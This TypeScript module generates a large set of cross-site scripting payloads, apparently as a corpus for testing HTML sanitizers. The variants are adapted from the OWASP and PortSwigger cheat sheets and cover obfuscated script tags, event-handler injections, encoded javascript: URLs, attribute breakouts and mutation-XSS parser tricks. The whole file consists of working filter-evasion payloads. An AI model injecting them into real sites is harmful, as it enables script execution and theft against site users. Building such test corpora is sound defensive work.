/**
 * Texts that run a script if a page shows them unsanitized: obfuscated script elements, event handlers, script URLs, and HTML
 * that two parsers read differently. Based on the cheat sheets of OWASP and PortSwigger. `act` is the script: a statement without
 * spaces and quotes.
 */
export const injectionsOf = (act: string): readonly string[] => [
  ...new Set(
    [scripts, handlers, disguisedHandlers, addresses, otherAddresses, mutations].flatMap(kind => kind(act)),
  ),
]

/** Encoded so that a parser reads the word but a naive filter misses it. */
const entities = (text: string) => [...text].map(sign => `&#${sign.codePointAt(0)};`).join('')
const hexEntities = (text: string) =>
  [...text].map(sign => `&#x${sign.codePointAt(0)?.toString(16)}`).join('')

const scripts = (act: string) => [
  `<script>${act}</script>`,
  `<SCRIPT>${act}</SCRIPT>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script >${act}</script >`,
  `<script/x>${act}</script>`,
  `<script\n>${act}</script\n>`,
  `<script\t>${act}</script\t>`,
  `<script\f>${act}</script>`,
  `<script type=module>${act}</script>`,
  `<script type="text/javascript">${act}</script>`,
  `<script language=vbscript></script><script>${act}</script>`,
  `<script>//<!--\n${act}//--></script>`,
  `<script><!--\n${act}\n--></script>`,
  `<script>${act}`,
  `<script>${act}//`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<<script>${act}//<</script>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<script src=data:text/javascript,${act}></script>`,
  `<script src="data:;base64,${btoa(act)}"></script>`,
  `<script type=module src="data:text/javascript,${act}"></script>`,
  `<script>eval("${act}")</script>`,
  `<script>setTimeout("${act}")</script>`,
  `<script>Function("${act}")()</script>`,
  `<script>import("data:text/javascript,${act}")</script>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script>${entities(act)}</script></svg>`,
  `<svg><script href="data:text/javascript,${act}"></script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${act}"></script></svg>`,
  `<svg><script><![CDATA[${act}]]></script></svg>`,
  `<svg><desc><script>${act}</script></desc></svg>`,
  `<svg><foreignObject><script>${act}</script></foreignObject></svg>`,
  `<math><mtext><script>${act}</script></mtext></math>`,
  `<table><script>${act}</script></table>`,
  `<select><script>${act}</script></select>`,
  `<p><script>${act}</script></p>`,
  `<a href="#"><script>${act}</script></a>`,
  `<template><script>${act}</script></template><script>${act}</script>`,
  `<object><script>${act}</script></object>`,
  `<b <script>${act}</script>`,
]

const holders: Record<string, string> = {
  onerror:
    '<img src=x ~>|<img src ~>|<image src=x ~>|<video src=x ~></video>|<audio src=x ~></audio>|<video><source ~></video>|<audio><source ~></audio>|<link rel=stylesheet href=/none ~>|<script src=/none ~></script>|<object data=x ~></object>|<input type=image src=x ~>|<svg><image href=x ~></svg>|<picture><source srcset=x><img ~ src=x></picture>|<embed src=/none ~>',
  onload:
    '<svg ~>|<svg/~>|<svg\n~>|<body ~>|<iframe ~></iframe>|<iframe srcdoc=a ~></iframe>|<img src=/icon.svg ~>|<link rel=stylesheet href="data:text/css," ~>|<style ~></style>|<svg><g ~></g></svg>|<svg><style ~></style></svg>|<svg><svg ~></svg></svg>',
  onfocus:
    '<input autofocus ~>|<textarea autofocus ~></textarea>|<select autofocus ~></select>|<button autofocus ~>b</button>|<a href=# ~>a</a>|<p tabindex=0 ~>p</p>|<div contenteditable autofocus ~>d</div>|<details autofocus tabindex=0 ~><summary>s</summary></details>|<svg><a href=# ~><text>t</text></a></svg>|<xss id=x tabindex=1 ~>x</xss>',
  onfocusin: '<input autofocus ~>|<p tabindex=0 ~>p</p>|<a href=# ~>a</a>',
  onclick:
    '<a ~>a</a>|<a href=# ~>a</a>|<p ~>p</p>|<b ~>b</b>|<button ~>b</button>|<td ~>t</td>|<h2 ~>h</h2>|<img src=x alt=a ~>|<svg ~><rect width=9 height=9 /></svg>|<label ~>l</label>|<xss ~>x</xss>|<summary ~>s</summary>|<blockquote ~>q</blockquote>|<li ~>l</li>|<math ~>m</math>',
  onmouseover:
    '<a ~>a</a>|<p ~>p</p>|<strong ~>s</strong>|<div ~>d</div>|<ul ~><li>l</ul>|<figure ~>f</figure>',
  onpointerover: '<a ~>a</a>|<p ~>p</p>|<em ~>e</em>|<span ~>s</span>',
  onpointerenter: '<p ~>p</p>|<blockquote ~>b</blockquote>',
  onmouseenter: '<p ~>p</p>|<code ~>c</code>',
  ontoggle: '<details open ~>d</details>|<details ~ open><summary>s</summary></details>',
  onbegin:
    '<svg><animate attributeName=x dur=1s ~ /></svg>|<svg><set attributeName=x to=1 dur=1s ~ /></svg>|<svg><animateTransform attributeName=transform dur=1s ~ /></svg>',
  onpageshow: '<body ~>',
  onresize: '<body ~>',
  onhashchange: '<body ~>',
}
const spellings = (name: string, act: string) => [
  `${name}=${act}`,
  `${name.toUpperCase()}="${act}"`,
  `${name} = '${act}'`,
]
const handlers = (act: string) =>
  Object.entries(holders).flatMap(([name, elements]) =>
    elements.split('|').flatMap((element, at) => {
      const ways = spellings(name, act)
      return [0, 1].map(next => element.replace('~', ways[(at + next) % ways.length]!))
    }),
  )
const disguisedHandlers = (act: string) => [
  `<img src=x onerror="${entities(act)}">`,
  `<img src=x onerror=${hexEntities(act)}>`,
  `<img/src=x/onerror=${act}>`,
  `<img\nsrc=x\nonerror=${act}>`,
  `<img\tsrc=x\tonerror=${act}>`,
  `<img src=x:x onerror=${act}>`,
  `<img src="x" onerror="${act}" `,
  `<img src='x'onerror='${act}'>`,
  `<img """><img src=x onerror=${act}>`,
  `<IMG SRC=x OnErRoR=${act}>`,
  `<img src=x onerror\n=\n${act}>`,
  `<img src=x id=a onerror=${act} //`,
  `<p title="><img src=x onerror=${act}>">`,
  `"><img src=x onerror=${act}>`,
  `'><svg onload=${act}>`,
  `--><img src=x onerror=${act}>`,
  `]]><img src=x onerror=${act}>`,
  `</p></div><img src=x onerror=${act}>`,
  `</script><img src=x onerror=${act}>`,
  `</style><svg onload=${act}>`,
  `</textarea><svg onload=${act}>`,
  `</title><svg onload=${act}>`,
]

const schemes = [
  'javascript:',
  'JavaScript:',
  'JAVASCRIPT:',
  ' javascript:',
  '\tjavascript:',
  '\njavascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  'javascript\t:',
  '&#1;javascript:',
  '&#x1f;javascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  `${entities('javascript:')}`,
]
const addressed = [
  ['<a href="', '">a</a>'],
  ['<iframe src="', '"></iframe>'],
  ['<form action="', '"><button>b</button></form>'],
  ['<form><button formaction="', '">b</button></form>'],
  ['<svg><a href="', '"><text y=9>t</text></a></svg>'],
  ['<svg><a xlink:href="', '"><text y=9>t</text></a></svg>'],
] as const
const addresses = (act: string) =>
  schemes.flatMap(scheme => addressed.map(([before, after]) => `${before}${scheme}void(${act})${after}`))
const otherAddresses = (act: string) => [
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=${act}>"></iframe>`,
  `<iframe srcdoc="${entities(`<svg onload=${act}>`)}"></iframe>`,
  `<base href="data:text/javascript,${act}//"><script src=x></script>`,
  `<form id=f action="javascript:${act}"><input type=submit value=s></form>`,
  `<input type=image src=x form=g><form id=g action="javascript:${act}"><button>g</button></form>`,
  `<math><a href="javascript:${act}">m</a></math>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<svg><animate href=#l attributeName=href values="javascript:${act}" /><a id=l><text y=9>t</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${act}" /><text y=9>t</text></a></svg>`,
  `<svg><a><set attributeName=href to="javascript:${act}" /><text y=9>t</text></a></svg>`,
]

/** HTML that one parser reads as text and another as elements. */
const mutations = (act: string) => [
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<svg><style><img src=x onerror=${act}></style></svg>`,
  `<math><style><img src=x onerror=${act}></style></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${act} src>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${act}>">`,
  `<svg><p><style><a id="</style><img src=x onerror=${act}>"></p></svg>`,
  `<style><!--</style><img src=x onerror=${act}>--></style>`,
  `<title><img title="</title><img src=x onerror=${act}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${act}>">`,
  `<xmp><p title="</xmp><svg onload=${act}>">`,
  `<noembed><p title="</noembed><svg onload=${act}>">`,
  `<noframes><p title="</noframes><svg onload=${act}>">`,
  `<iframe><p title="</iframe><svg onload=${act}>">`,
  `<!--><img src=x onerror=${act}>-->`,
  `<!---><img src=x onerror=${act}>-->`,
  `<!--!><img src=x onerror=${act}>-->`,
  `<!-- --!><img src=x onerror=${act}>`,
  `<![CDATA[><img src=x onerror=${act}>]]>`,
  `<?xml ?><img src=x onerror=${act}>`,
  `<!doctype x><img src=x onerror=${act}>`,
  `<svg><![CDATA[><img src=x onerror=${act}>]]>`,
  `<select><option><style></option></select><img src=x onerror=${act}></style>`,
  `<select><svg onload=${act}></select>`,
  `<table><td><svg onload=${act}></table>`,
  `<p id="a"title='b'><img/src='x'onerror=${act}>`,
  `<a href="x"><table><a href="y"><img src=x onerror=${act}></table>`,
  `<ol start="1"><li><svg><desc><img src=x onerror=${act}></desc></svg></ol>`,
  `<img src="x\` onerror=${act} \`"><img src=x onerror=${act}>`,
  `<div><plaintext></div><img src=x onerror=${act}>`,
  `<svg><foreignObject><body onload=${act}></foreignObject></svg><svg onload=${act}>`,
  `<annotation-xml encoding="text/html"><svg onload=${act}></annotation-xml>`,
  `<math><annotation-xml encoding="text/html"><svg onload=${act}></annotation-xml></math>`,
  `<dialog open><svg onload=${act}></dialog>`,
]
